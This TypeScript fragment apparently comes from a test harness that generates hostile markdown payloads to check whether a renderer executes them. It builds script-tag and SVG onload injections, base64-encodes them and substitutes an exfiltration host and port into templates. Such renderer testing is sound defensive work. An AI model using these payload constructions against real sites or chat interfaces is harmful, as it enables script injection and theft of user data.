  for (const template of templates) {
    if (seen.has(template.text)) continue;
    seen.add(template.text);
    const id = payloads.length + 1;
    const action = ACTIONS[id % ACTIONS.length]!(id, exfil);
    const script = `<script>${action}</script>`;
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${action}"/>`;
    const markdown = template.text
      .replaceAll('B64SCRIPT', base64(script))
      .replaceAll('B64SVG', base64(svg))
      .replaceAll('EXFILHOST', exfilUrl.host)
      .replaceAll('EXFILPORT', exfilUrl.port)
      .replaceAll('{A}', action)
      .replaceAll('{E}', exfil)
      .replaceAll('{ID}', String(id));
    payloads.push({
      id,
      family: template.family,
      name: template.name,
      classic: template.classic === true,
      markdown,
    });
  }
  return payloads;
}

/**
 * The payloads a run uses: all of them in full mode; in reduced mode every classic and an evenly
 * spread, deterministic sample of the rest (`sample` of them).
 */
export function selectPayloads(
  corpus: readonly HostilePayload[],
  full: boolean,
  sample: number,
): HostilePayload[] {
  if (full) return [...corpus];
  const rest = corpus.filter((p) => !p.classic);
  const step = rest.length / Math.min(sample, rest.length);
  const picked = new Set<number>();
  for (let i = 0; i < Math.min(sample, rest.length); i++)
    picked.add(rest[Math.floor(i * step)]!.id);
  // The families with few members always come along whole (nesting bombs, tables, unicode).
  for (const p of rest)
    if (p.family === 'nesting' || p.family === 'table-footnote') picked.add(p.id);
  return corpus.filter((p) => p.classic || picked.has(p.id));
}

/** The marker written before each payload in a reply, to count the payloads that rendered. */
export function marker(id: number): string {
  return `⟦H${id}⟧`;
}
export const MARKER_PATTERN = /⟦H(\d+)⟧/g;

/** One reply: each payload after its marker, in blocks of their own. */
export function replyFor(batch: readonly HostilePayload[]): string {
  return batch.map((p) => `${marker(p.id)}\n\n${p.markdown}\n\n`).join('');
}
